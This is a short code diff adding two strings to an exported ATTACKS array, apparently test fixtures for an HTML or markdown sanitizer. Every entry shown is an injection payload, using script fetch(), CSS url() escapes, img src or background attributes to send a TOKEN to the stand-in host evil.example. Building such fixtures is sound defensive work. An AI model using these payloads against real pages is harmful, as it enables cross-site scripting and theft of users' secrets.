@@ -126,6 +126,8 @@ export const ATTACKS: readonly string[] = [
   'a|<style>\n-|-\nb|c|</style>\n*{background:\\75rl("//evil.example/?q= TOKEN")}',
   'a <script></script \u200b>fetch("//evil.example/?q= TOKEN")',
   'a <style></style/>*{background:\\75rl("//evil.example/?q= TOKEN")}',
+  "<p title='\n\n' x=> background=//evil.example/?q=TOKEN",
+  "<p title='\n\n' x=> background=TOKEN",
   'a <pre><img src=//evil.example/?q=_">TOKEN',
 ]
 
